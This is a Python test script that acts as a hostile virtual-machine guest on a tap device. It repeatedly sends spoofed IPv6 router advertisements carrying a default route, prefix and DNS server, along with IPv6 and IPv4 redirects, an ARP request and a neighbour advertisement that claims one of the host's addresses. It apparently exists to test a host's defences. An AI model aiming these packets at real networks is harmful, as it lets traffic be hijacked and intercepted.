#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A guest that wants to be its host's router, and to have the host's addresses.

Runs from the checkout on the test host, `rogue_router.py TAP SECONDS`: opens the tap as a
hypervisor does and sends what a hostile guest may send, again and again: router advertisements with
a default route, a prefix, a route and a name server, redirects of IPv6 and IPv4, and neighbour
advertisements for an address of the host.
"""

from __future__ import annotations

import fcntl
import os
import struct
import sys
import time
from ipaddress import IPv4Address, IPv6Address

TUNSETIFF, IFF_TAP, IFF_NO_PI, IFF_VNET_HDR = 0x400454CA, 2, 0x1000, 0x4000

ROUTER = "fe80::66"
MAC = bytes.fromhex("020000000066")
PREFIX = "2001:db8:66::"
# Routed by way of ROUTER before, and what redirects are about.
REDIRECTED = "2001:db8:77::1"
REDIRECTED_4, ROUTER_4, OTHER_4, HOST_4 = "198.51.100.1", "192.0.2.66", "192.0.2.67", "192.0.2.1"
# Addresses that the host gives itself; the guest disputes the second.
HOST, DISPUTED = "2001:db8:88::1", "2001:db8:88::2"


def checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def ipv6(source: str, target: str, kind: int, body: bytes) -> bytes:
    """A frame of an ICMPv6 message."""
    ends = IPv6Address(source).packed + IPv6Address(target).packed
    message = struct.pack("!BBH", kind, 0, 0) + body
    found = checksum(ends + struct.pack("!II", len(message), 58) + message)
    message = struct.pack("!BBH", kind, 0, found) + body
    header = struct.pack("!IHBB", 6 << 28, len(message), 58, 255)
    return ethernet(0x86DD, header + ends + message)


def ipv4(source: str, target: str, protocol: int, body: bytes) -> bytes:
    ends = IPv4Address(source).packed + IPv4Address(target).packed
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0) + ends
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + body


def ethernet(kind: int, packet: bytes) -> bytes:
    return b"\xff" * 6 + MAC + struct.pack("!H", kind) + packet


def router_advertisement() -> bytes:
    prefix = IPv6Address(PREFIX).packed
    options = b"\x01\x01" + MAC
    options += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 7200, 3600, 0) + prefix
    options += struct.pack("!BBHI", 5, 1, 0, 1280)
    options += struct.pack("!BBBBI", 24, 2, 48, 0x08, 7200) + prefix[:8]
    options += struct.pack("!BBHI", 25, 3, 0, 7200) + IPv6Address(ROUTER).packed
    body = struct.pack("!BBHII", 64, 0x08, 9000, 0, 0) + options
    return ipv6(ROUTER, "ff02::1", 134, body)


def redirect(source: str) -> bytes:
    better = IPv6Address("fe80::67").packed
    body = bytes(4) + better + IPv6Address(REDIRECTED).packed + b"\x02\x01" + MAC
    return ipv6(ROUTER, source, 137, body)


def redirect_4() -> bytes:
    # The kernel looks for a socket that sent the packet, but not for an echo reply's.
    lost = ipv4(HOST_4, REDIRECTED_4, 1, bytes(8))
    body = struct.pack("!BBH", 5, 1, 0) + IPv4Address(OTHER_4).packed + lost
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ethernet(0x0800, ipv4(ROUTER_4, HOST_4, 1, body))


def arp_request() -> bytes:
    """Ask for the host, which learns that the better router is there."""
    ends = MAC + IPv4Address(OTHER_4).packed + bytes(6) + IPv4Address(HOST_4).packed
    return ethernet(0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + ends)


def neighbour_advertisement(target: str) -> bytes:
    body = struct.pack("!I", 0x20000000) + IPv6Address(target).packed + b"\x02\x01" + MAC
    return ipv6(target, "ff02::1", 136, body)


def main(tap: str, seconds: float) -> None:
    device = os.open("/dev/net/tun", os.O_RDWR)
    flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR
    fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH22x", tap.encode(), flags))
    frames = [
        router_advertisement(),
        redirect(HOST),
        arp_request(),
        redirect_4(),
        neighbour_advertisement(DISPUTED),
    ]
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for frame in frames:
            os.write(device, bytes(10) + frame)
        time.sleep(0.02)


if __name__ == "__main__":
    main(sys.argv[1], float(sys.argv[2]))
